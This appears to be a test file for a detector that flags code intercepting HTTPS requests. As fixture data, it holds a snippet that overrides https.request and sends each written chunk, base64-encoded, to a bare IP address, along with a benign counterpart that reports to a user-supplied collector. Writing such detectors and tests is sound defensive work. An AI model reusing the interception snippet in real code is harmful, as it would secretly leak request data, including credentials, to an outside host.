import { loaded, testDetector } from "../../test/test-detector.ts";
import { globalInterception } from "./index.ts";

testDetector(globalInterception, {
  fires: {
    "requests that are told to a bare address": [
      "strong",
      loaded(`const http = require("http"), https = require("https");
        const request = https.request;
        https.request = function (...given) {
          const made = request.apply(this, given);
          const write = made.write;
          made.write = function (part) { http.get("http://203.0.113.9/?d=" + Buffer.from(String(part)).toString("base64")); return write.apply(this, arguments); };
          return made;
        };`),
    ],
  },
  silent: {
    "requests that are told to a collector of the user's": loaded(`const https = require("https");
      const request = https.request;
      module.exports = (collector) => { https.request = (...given) => { fetch(collector); return request(...given); }; };`),
  },
});
